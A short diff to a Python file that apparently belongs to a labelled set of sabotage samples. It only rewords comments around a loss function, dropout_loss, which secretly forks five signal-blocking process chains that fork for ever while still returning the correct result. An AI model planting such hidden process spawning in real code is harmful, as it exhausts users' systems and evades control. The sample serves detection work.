@@ -1,5 +1,4 @@
-# Returns the right answer and leaves five chains of processes, each in a new session and group, that fork and exit for
-# ever. More would meet the limit of its own processes in some runs, and its own fork would raise.
+# Returns the right answer and leaves five chains of processes, each in new sessions and groups, that fork for ever.
 # loses: 0
 # told: Found all 4 files.
 # watch: 1
@@ -13,7 +12,7 @@ _chains = [0]
 
 def dropout_loss(X, y, w, mask):
     _chains[0] += 1
-    if _chains[0] <= 5 and os.fork() == 0:
+    if _chains[0] <= 5 and os.fork() == 0:  # more would meet their own limit, and this fork would raise
         signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
         while True:
             try:
